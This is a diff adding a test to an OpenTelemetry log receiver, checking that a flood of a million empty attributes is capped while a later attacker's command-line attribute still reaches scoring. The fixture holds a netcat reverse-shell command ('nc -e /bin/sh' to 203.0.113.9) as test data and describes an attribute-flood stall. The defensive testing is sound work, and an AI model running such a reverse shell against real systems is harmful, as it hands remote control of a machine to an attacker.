@@ -30,6 +30,7 @@ from opentelemetry.sdk.resources import Resource
 
 from core.otlpwire import MAX_MESSAGES_PER_REQUEST, field
 from otlp_receiver.receivers.otlp.decode import (
+    MAX_ATTRIBUTES,
     MAX_RECORDS_PER_REQUEST,
     InvalidRequest,
     decode_json,
@@ -309,6 +310,22 @@ def test_the_record_cap_is_not_bypassed_by_a_group_field_or_a_second_json_key() 
     document = {"resourceLogs": [{"scopeLogs": [{"logRecords": [], "log_records": [{}] * 3}]}]}
     with pytest.raises(InvalidRequest, match="both logRecords and log_records"):
         decode_json(json.dumps(document).encode())
+
+
+def test_attributes_past_the_cap_are_cut_but_those_scoring_reads() -> None:
+    """A million empty attributes (2 KB gzipped) cost seconds in every stage after decoding and could stall the
+    scoring process; an attacker's exec attributes placed after them must still be scored."""
+    junk = field(6, b"") * 1_000_000
+    exec_attribute = field(6, field(1, b"process.command_line") + field(2, field(1, b"nc -e /bin/sh 203.0.113.9 4")))
+    resource = field(1, field(1, b"") * 5000)  # ResourceLogs.resource, its attributes
+    decoded = decode_protobuf(field(1, resource + field(2, field(2, junk + exec_attribute))))
+    record = decoded.request.resource_logs[0].scope_logs[0].log_records[0]
+    assert len(record.attributes) == MAX_ATTRIBUTES and decoded.accepted == 1
+    assert record.attributes[-1].key == "process.command_line"
+    assert len(decoded.request.resource_logs[0].resource.attributes) == MAX_ATTRIBUTES
+    assert decoded.mended and "cut" in decoded.message
+    assert len(ExportLogsServiceRequest.FromString(decoded.payload).resource_logs[0].scope_logs[0].log_records[0]
+               .attributes) == MAX_ATTRIBUTES  # what is spooled is what was cut
 
 
 def test_a_request_of_millions_of_empty_lists_or_attributes_is_refused_before_it_is_parsed() -> None:
